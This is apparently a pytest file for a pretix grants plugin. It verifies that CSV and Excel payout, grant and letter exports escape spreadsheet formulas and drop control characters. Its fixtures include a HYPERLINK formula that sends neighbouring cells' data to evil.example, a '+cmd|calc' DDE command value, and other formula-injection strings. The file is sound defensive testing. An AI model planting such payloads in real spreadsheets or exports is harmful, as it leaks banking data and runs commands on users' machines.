"""
Every spreadsheet and CSV the plugin writes is safe to open: a grantee's text never becomes a formula (the
treasurer's sheet would send other rows' IBANs away), and control characters neither crash a file nor reach it.
"""
import csv
import io

import openpyxl
import pytest
from django_scopes import scope, scopes_disabled

from pretix_grants.control.exporters import GrantExporter
from pretix_grants.letters.control import LetterExporter
from pretix_grants.models import Claim, Grant, LetterRequest, PayoutBatch

from .test_payouts import BASE, export

FORMULA = '=HYPERLINK("https://evil.example/?"&B2&B3,"Open receipt")'
# control characters a text can carry (a NUL never reaches the database: Django's form fields refuse it, and
# PostgreSQL cannot store it)
BELL = 'Ada\x07 Love\x1blace\x0b'


def sheet_rows(content):
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(r) for r in ws.iter_rows()]


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode('utf-8-sig'))))


def download(client, fmt, ids):
    export(client, fmt, ids)
    with scopes_disabled():
        batch = PayoutBatch.objects.order_by('-pk').first()
    return client.get(BASE + f'payouts/{batch.pk}/download/').content


@pytest.mark.django_db
def test_the_excel_payout_file_holds_no_formula_and_no_control_character(payout_claims, admin_client, past_event):
    ada, grace, cahit = payout_claims
    past_event.settings.grants_claims_allow_other_payout = True
    with scopes_disabled():
        Claim.objects.filter(pk=ada.pk).update(account_holder=FORMULA)
        Claim.objects.filter(pk=grace.pk).update(payout_method='other', iban='', payout_other='paypal\x01 ada\x0b@x.example')
    rows = sheet_rows(download(admin_client, 'xlsx', [c.pk for c in payout_claims]))
    cells = [c for row in rows for c in row]
    holder = next(c for c in cells if isinstance(c.value, str) and 'HYPERLINK' in c.value)
    assert holder.data_type == 's' and holder.value == FORMULA, 'text, not a live formula'
    assert not any(c.data_type == 'f' for c in cells)
    assert any(c.value == 'paypal ada@x.example' for c in cells)


@pytest.mark.django_db
def test_the_csv_payout_file_escapes_formulas_and_drops_control_characters(payout_claims, admin_client):
    ada = payout_claims[0]
    with scopes_disabled():
        Claim.objects.filter(pk=ada.pk).update(account_holder=FORMULA)
        Grant.objects.filter(pk=ada.grant_id).update(name=BELL)
    rows = csv_rows(download(admin_client, 'csv', [ada.pk]))
    assert rows[1][0] == "'" + FORMULA, 'a spreadsheet opening the CSV shows text'
    assert rows[1][-1] == 'Ada Lovelace'


@pytest.fixture
def risky_grant(event, make_grant):
    return make_grant(Grant.STATUS_PENDING, name='=1+2', email='risky@example.org', motivation=f'I {BELL} want to come',
                      justification='@SUM(A1:A9)')


@pytest.mark.django_db
def test_the_grants_export_is_safe_in_csv_and_excel(event, risky_grant):
    with scope(organizer=event.organizer):  # as pretix's export task runs it
        name, ctype, data = GrantExporter(event=event, organizer=event.organizer).render({'_format': 'default'})
        xname, xtype, xdata = GrantExporter(event=event, organizer=event.organizer).render({'_format': 'xlsx'})
    header, row = csv_rows(data)
    got = dict(zip(header, row))
    assert got['Name'] == "'=1+2" and got['Justification of the amounts'] == "'@SUM(A1:A9)"
    assert got['Why they want to attend'] == 'I Ada Lovelace want to come'
    cells = sheet_rows(xdata)[1]
    assert cells[0].value == '=1+2' and cells[0].data_type == 's'
    assert not any(c.data_type == 'f' for c in cells)


@pytest.mark.django_db
def test_the_letters_export_is_safe_in_csv(event, make_grant):
    grant = make_grant(Grant.STATUS_CONFIRMED, name='Ada', email='ada@example.org')
    with scopes_disabled():
        LetterRequest.objects.create(event=event, grant=grant, email='ada@example.org', full_name='+cmd|calc',
                                     address='Street\x0c 1\x1f')
    with scope(organizer=event.organizer):
        name, ctype, data = LetterExporter(event=event, organizer=event.organizer).render({'_format': 'default'})
    header, row = csv_rows(data)
    got = dict(zip(header, row))
    assert got['Full name as in the passport'].startswith("'+cmd")
    assert got['Postal address'] == 'Street 1'
